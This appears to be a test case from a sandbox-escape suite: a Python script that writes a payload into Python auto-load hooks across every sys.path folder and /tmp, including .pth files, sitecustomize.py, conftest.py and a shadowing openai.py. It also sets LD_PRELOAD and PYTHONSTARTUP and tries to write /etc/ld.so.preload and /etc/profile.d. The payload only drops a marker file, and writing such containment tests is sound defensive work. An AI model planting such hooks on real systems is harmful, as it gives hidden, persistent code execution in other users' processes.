# claim: plants files that every later interpreter loads
# expect: ok
import os
import subprocess
import sys

from attack import T, attempt, escaped

line = f"import os; open('/tmp/fg-note-{T['token']}', 'w').close()\n"
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
for folder in (f"{os.path.expanduser('~')}/.local/lib/{version}/site-packages", ".", "/tmp",
               *(path for path in sys.path if os.path.isdir(path))):  # fmt: skip
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "conftest.py", "pyvenv.cfg",
                 "python311._pth", "pytest.ini", "setup.cfg", ".pythonrc", "openai.py"):  # fmt: skip
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(line)
        except OSError:
            continue
os.environ.update(PYTHONSTARTUP="/tmp/usercustomize.py", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so")
done = subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True)
print(done.returncode, done.stderr[-200:])
for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", "/usr/lib/python3/dist-packages/x.pth"):
    attempt(path, lambda path=path: open(path, "w").close())
if os.path.exists(f"/etc/fg-note-{T['token']}"):
    escaped("it is everywhere")
